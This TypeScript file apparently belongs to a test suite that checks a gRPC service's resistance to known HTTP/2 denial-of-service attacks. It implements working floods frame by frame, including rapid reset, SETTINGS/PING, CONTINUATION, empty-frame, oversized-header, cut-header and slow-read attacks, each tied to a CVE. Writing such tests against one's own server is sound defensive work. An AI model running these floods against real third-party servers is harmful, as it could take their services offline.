/** The known floods of HTTP/2, written frame by frame: each from four connections, or as many as it says, that come again when they are cut off. */

import { setTimeout as sleep } from 'node:timers/promises';
import { OPERATOR_LIMITS } from '../../src/engine/limits.js';
import { grpcFramed } from '../support/grpc.js';
import {
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FRAME,
  headerBlock,
  http2Frame,
  INITIAL_WINDOW_SIZE,
  LONGEST_FRAME,
  PREFACE,
  reset,
  settings,
  windowUpdate,
} from '../support/http2-frames.js';
import type { Attack } from './attack.js';
import { barrage, connected, cut, type Script, throng, write } from './throng.js';

const CONNECTIONS = 4;

/** How many frames are written together. */
const TOGETHER = 100;

const OPENING = Buffer.concat([PREFACE, settings()]);

const HEADERS = headerBlock(callHeaders('ValidatorService/GetRoundInfo'));

/** A good request for the round. */
const REQUEST = grpcFramed(Buffer.of());

/** A flood: what each connection says, after its opening. `times`: it takes so many times as long as others. */
function flood(
  name: string,
  tries: string,
  script: Script,
  {
    reads = true,
    connections = CONNECTIONS,
    times = 1,
  }: { reads?: boolean; connections?: number; times?: number } = {},
): Attack {
  return {
    name,
    tries,
    lingering: connections,
    async run({ grpc }, { ms }, inPlace) {
      function* all() {
        yield OPENING;
        yield* script();
      }
      return barrage(grpc, all, { connections, ms: times * ms, reads }, inPlace);
    },
  };
}

/** The same bytes for ever. */
function again(...frames: readonly Buffer[]): Script {
  const bytes = Buffer.concat(Array.from({ length: TOGETHER }, () => frames).flat());
  return function* () {
    for (;;) yield bytes;
  };
}

/** Frames for one stream after the other, for ever. */
function streams(frames: (stream: number) => readonly Buffer[]): Script {
  return function* () {
    for (let stream = 1; stream < 2 ** 31; ) {
      const together: Buffer[] = [];
      for (let i = 0; i < TOGETHER; i++, stream += 2) together.push(...frames(stream));
      yield Buffer.concat(together);
    }
  };
}

function headers(stream: number, flags: number, block = HEADERS): Buffer {
  return http2Frame(FRAME.HEADERS, flags, stream, block);
}

const FLOODS: readonly Attack[] = [
  // A stream counts against no limit once it is reset; the work that it began goes on (CVE-2023-44487).
  flood(
    'rapid-reset',
    'calls that are reset as soon as they are begun',
    streams((stream) => [
      headers(stream, END_HEADERS),
      http2Frame(FRAME.DATA, END_STREAM, stream, REQUEST),
      reset(stream),
    ]),
    // It has its first thousand: all that there is to do until it is cut off, a tenth of a second's work. 99 of 100 are told in more than a second or two.
    { connections: 1, times: 4 },
  ),
  // Every SETTINGS and PING wants an answer, which piles up where nobody reads (CVE-2019-9515, CVE-2019-9512).
  flood(
    'settings',
    'settings without end, whose answers are never read',
    again(settings(INITIAL_WINDOW_SIZE, 65_535)),
    { reads: false },
  ),
  flood(
    'ping',
    'pings without end, whose answers are never read',
    again(http2Frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
    { reads: false },
  ),
  // Headers that never end are kept until they do (CVE-2024-27316).
  flood('continuation', 'headers that go on and on', function* () {
    yield headers(1, 0);
    const more = headerBlock({ 'x-more': 'a'.repeat(LONGEST_FRAME - 32) });
    for (;;) yield http2Frame(FRAME.CONTINUATION, 0, 1, more);
  }),
  // Frames that cost their sender nothing (CVE-2019-9518), and such that say nothing (CVE-2019-9513).
  flood('empty-frames', 'calls whose data is empty frames without end', function* () {
    yield headers(1, END_HEADERS);
    yield* again(http2Frame(FRAME.DATA, 0, 1), http2Frame(FRAME.PRIORITY, 0, 1, Buffer.of(0, 0, 0, 0, 16)))();
  }),
  // A header list is small on the wire and large in memory.
  flood(
    'large-headers',
    'calls with 100,000 bytes of headers',
    streams((stream) => {
      const block = headerBlock({ ...callHeaders('ValidatorService/GetRoundInfo'), 'x-large': 'a'.repeat(100_000) });
      const rest = block.subarray(LONGEST_FRAME);
      const frames = [headers(stream, END_STREAM, block.subarray(0, LONGEST_FRAME))];
      for (let at = 0; at < rest.length; at += LONGEST_FRAME) {
        const flags = at + LONGEST_FRAME >= rest.length ? END_HEADERS : 0;
        frames.push(http2Frame(FRAME.CONTINUATION, flags, stream, rest.subarray(at, at + LONGEST_FRAME)));
      }
      return frames;
    }),
  ),
  // A stream that is over is not to be written to.
  flood(
    'after-end',
    'calls that go on when they have ended',
    streams((stream) => [
      headers(stream, END_HEADERS),
      http2Frame(FRAME.DATA, END_STREAM, stream, REQUEST),
      http2Frame(FRAME.DATA, 0, stream, REQUEST),
    ]),
  ),
];

/** A connection that ends in the middle of headers, which has ended whole servers (CVE-2024-27983). */
const cutHeaders: Attack = {
  name: 'cut-headers',
  tries: 'connections that are reset in the middle of their headers',
  async run({ grpc }, { ms }, inPlace) {
    const over = performance.now() + ms;
    let connections = 0;
    const one = async (): Promise<void> => {
      while (performance.now() < over) {
        const socket = await connected(grpc);
        connections++;
        if (socket === undefined) continue;
        await new Promise((resolve) => socket.write(Buffer.concat([OPENING, headers(1, 0)]), resolve));
        await new Promise(setImmediate);
        socket.resetAndDestroy();
      }
    };
    inPlace();
    await Promise.all(Array.from({ length: CONNECTIONS }, one));
    return { connections };
  },
};

/** Answers that may leave a byte at a time (CVE-2019-9511). */
const dribble: Attack = {
  name: 'dribble',
  tries: 'calls, 100 on each connection, whose answers may only leave byte by byte',
  async run({ grpc }, { ms }, inPlace) {
    const ids = Array.from({ length: OPERATOR_LIMITS.maxStreams.default }, (_, n) => 2 * n + 1);
    const sockets = await throng(grpc, CONNECTIONS);
    const calls = ids.flatMap((id) => [headers(id, END_HEADERS), http2Frame(FRAME.DATA, END_STREAM, id, REQUEST)]);
    for (const socket of sockets) write(socket, PREFACE, settings(INITIAL_WINDOW_SIZE, 1), ...calls);
    const byteForEach = Buffer.concat(ids.map((id) => windowUpdate(id, 1)));
    // All of the calls at once are a burst that is soon over.
    await sleep(ms / 5);
    inPlace();
    const over = performance.now() + ms;
    while (performance.now() < over) {
      for (const socket of sockets) write(socket, byteForEach);
      await sleep(20);
    }
    return { connections: sockets.length, 'cut off': cut(sockets) };
  },
};

export const HTTP2: readonly Attack[] = [...FLOODS, cutHeaders, dribble];
